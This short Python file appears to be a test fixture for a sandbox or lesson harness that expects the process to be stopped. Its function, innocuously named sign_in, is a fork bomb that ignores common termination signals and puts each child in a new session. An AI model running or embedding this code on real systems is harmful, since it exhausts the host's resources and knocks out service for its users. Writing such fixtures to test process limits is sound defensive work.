"""Forks as fast as it can, in sessions of their own, deaf to signals.

lesson: start_here
expects: 0
says: was stopped
"""

# cell: sign_in
import signal


def sign_in(path, name):
    for number in (1, 2, 3, 13, 15, 17):
        signal.signal(number, signal.SIG_IGN)
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            pass
